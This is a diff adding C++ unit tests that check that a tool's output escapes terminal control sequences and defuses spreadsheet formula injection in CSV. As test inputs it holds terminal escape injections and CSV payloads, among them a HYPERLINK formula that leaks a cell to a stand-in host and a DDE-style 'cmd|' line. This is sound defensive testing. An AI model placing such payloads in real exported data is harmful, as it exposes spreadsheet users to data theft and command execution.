@@ -2,9 +2,14 @@
 #include "netsec/io/document.hpp"
 #include "netsec/io/html.hpp"
 #include "netsec/io/output.hpp"
+#include "netsec/io/records.hpp"
+#include "testutil.hpp"
 
+#include <cerrno>
 #include <doctest/doctest.h>
+#include <fcntl.h>
 #include <sstream>
+#include <unistd.h>
 #include <yaml-cpp/yaml.h>
 
 using namespace netsec;
@@ -87,4 +92,105 @@ TEST_CASE("html_escape makes text safe for element content and quoted attributes
     CHECK(netsec::io::html_escape("<a href=\"x\">Tom & Jerry's</a>") ==
           "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt;");
     CHECK(netsec::io::html_escape("机房病毒") == "机房病毒");
+}
+
+TEST_CASE("terminal_safe shows C0, DEL, C1 and bytes that are not UTF-8 as escapes and keeps the rest") {
+    CHECK(terminal_safe("x\033[2J\033]0;owned\007") == "x\\x1b[2J\\x1b]0;owned\\x07");
+    CHECK(terminal_safe("a\tb\nc\rd") == "a\\tb\\nc\\rd");
+    CHECK(terminal_safe(std::string("nul\0end", 7)) == "nul\\x00end");
+    CHECK(terminal_safe("del\x7f") == "del\\x7f");
+    CHECK(terminal_safe("csi\xc2\x9b" "2J") == "csi\\u009b2J"); // U+009B, the one-character CSI
+    CHECK(terminal_safe("bad\x9b\xff") == "bad\\x9b\\xff");      // not UTF-8: each byte shown
+    CHECK(terminal_safe("张三 é ok \\n") == "张三 é ok \\n");   // text, and a backslash, unchanged
+}
+
+TEST_CASE("a table escapes control characters in every cell and keeps its columns lined up") {
+    Records r;
+    r.columns = {{"name"}, {"n", Kind::integer}};
+    r.rows.push_back({{"name", "x\033[2J\033[H"}, {"n", 1}});
+    r.rows.push_back({{"name", "张三"}, {"n", 22}});
+    std::string out = render(Format::table, r);
+    CHECK(out.find('\033') == std::string::npos);
+    CHECK(out == "name            n\n"
+                 "x\\x1b[2J\\x1b[H   1\n"
+                 "张三            22\n");
+}
+
+TEST_CASE("machine formats keep control characters as the data has them") {
+    Records r;
+    r.columns = {{"name"}};
+    r.rows.push_back({{"name", "x\033[2J"}});
+    CHECK(nlohmann::json::parse(render(Format::jsonl, r))["name"] == "x\033[2J");
+    CHECK(render(Format::csv, r) == "name\nx\033[2J\n");
+    CHECK(render(Format::tsv, r) == "name\nx\033[2J\n");
+}
+
+TEST_CASE("csv defuses cells a spreadsheet would take for formulas; plain numbers stay numbers") {
+    CHECK(csv_quote("=HYPERLINK(\"http://x/?\"&A1)") == "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"");
+    CHECK(csv_quote("+cmd") == "\"'+cmd\"");
+    CHECK(csv_quote("-2+3+cmd|' /C calc'!A0") == "\"'-2+3+cmd|' /C calc'!A0\"");
+    CHECK(csv_quote("@SUM(A1)") == "\"'@SUM(A1)\"");
+    CHECK(csv_quote("\tx") == "\"'\tx\"");
+    CHECK(csv_quote("\rx") == "\"'\rx\"");
+    CHECK(csv_quote("-5") == "-5");
+    CHECK(csv_quote("+1.5") == "+1.5");
+    CHECK(csv_quote("-") == "\"'-\"");
+    CHECK(csv_quote("2026-09-01T08:00:00Z") == "2026-09-01T08:00:00Z");
+    CHECK(csv_quote("O'Brien") == "O'Brien");
+    CHECK(csv_quote("'s-Hertogenbosch") == "'s-Hertogenbosch"); // a quote before a letter is kept as it is
+    CHECK(csv_quote("'=x") == "\"''=x\"");                     // marked too, so the mark comes off exactly
+}
+
+TEST_CASE("reading csv takes off exactly the mark that writing put on") {
+    const std::vector<std::string> values = {"=HYPERLINK(\"http://x/?\"&A1)", "-5", "-x", "+1", "@a", "'=x", "''", "'",
+                                             "'s", "O'Brien", "\tx", "a=b", "", "张三"};
+    Records r;
+    r.columns = {{"name"}, {"n"}};
+    for (const auto& v : values) r.rows.push_back({{"name", v}, {"n", "-"}});
+    auto back = read_records(render(Format::csv, r), "r.csv", {});
+    REQUIRE(back.size() == values.size());
+    for (std::size_t i = 0; i < values.size(); ++i) {
+        CHECK(back[i].fields["name"] == values[i]);
+        CHECK(back[i].fields["n"] == "-");
+    }
+    CHECK(csv_unprotect("'=a") == "=a");
+    CHECK(csv_unprotect("'a") == "'a");
+}
+
+TEST_CASE("FdBuf keeps why a write failed, and drops what follows") {
+    int fd = ::open("/dev/full", O_WRONLY | O_CLOEXEC);
+    REQUIRE(fd >= 0);
+    {
+        FdBuf buf(fd);
+        std::ostream out(&buf);
+        out << "data" << std::flush;
+        CHECK(!out.good());
+        CHECK(buf.error() == ENOSPC);
+        out.clear();
+        out << std::string(100000, 'x') << std::flush;
+        CHECK(buf.error() == ENOSPC);
+    }
+    ::close(fd);
+    netsec::test::TempDir tmp;
+    int ok = ::open(tmp.file("f").c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
+    {
+        FdBuf buf(ok);
+        std::ostream out(&buf);
+        out << std::string(70000, 'y') << "end\n" << std::flush;
+        CHECK(out.good());
+        CHECK(buf.error() == 0);
+    }
+    ::close(ok);
+    CHECK(std::filesystem::file_size(tmp.file("f")) == 70004);
+}
+
+TEST_CASE("a document for people escapes control characters in keys and values and still reads back") {
+    nlohmann::ordered_json doc = {{"title", "x\033[2J\x7f\xc2\x9b\ty"}, {"k\033]0;t\007", "v"}, {"plain", "张三"}};
+    std::string yaml = render_document(doc, Format::table);
+    for (char ch : yaml) CHECK((ch == '\n' || (static_cast<unsigned char>(ch) >= 0x20 && ch != 0x7f)));
+    CHECK(yaml.find("\xc2\x9b") == std::string::npos);
+    YAML::Node back = YAML::Load(yaml);
+    CHECK(back["title"].as<std::string>() == "x\033[2J\x7f\xc2\x9b\ty");
+    CHECK(back["k\033]0;t\007"].as<std::string>() == "v");
+    CHECK(back["plain"].as<std::string>() == "张三");
 }
